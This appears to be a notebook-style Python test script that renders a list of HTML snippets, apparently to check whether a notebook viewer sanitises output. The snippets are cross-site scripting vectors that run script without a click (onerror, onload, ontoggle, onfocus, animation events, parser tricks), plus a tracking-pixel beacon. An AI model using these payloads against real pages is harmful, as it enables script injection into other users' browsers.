"""Displays elements with event handlers that run without a click."""
# earns: double sizes
# %% double
def double(x):
    return 2 * x
# %% free after double
from IPython.display import HTML, display

RUN = "document.title='ESC'+'APED'"
for text in (
    f'<img src=x onerror="{RUN}">', f"<img/src=x/onerror={RUN}>", f'<svg onload="{RUN}">', f"<marquee onstart={RUN}>x",
    f'<details open ontoggle="{RUN}">', f'<input autofocus onfocus="{RUN}">', f'<body onpageshow="{RUN}">',
    f'<style>@keyframes x{{}}</style><b style="animation-name:x" onanimationstart="{RUN}">x</b>',
    f"<audio src onerror={RUN}>", f"<video><source onerror={RUN}></video>", f'<object data=x onerror="{RUN}"></object>',
    f'<img src="x` `<script>{RUN}</script>"` `>', f"<img \x00src=x \x0conerror={RUN}>",
    '<img src="http://192.0.2.1/seen.gif" width=1>',
):  # fmt: skip
    display(HTML(text))
# %% sizes
m, n = 3, 4
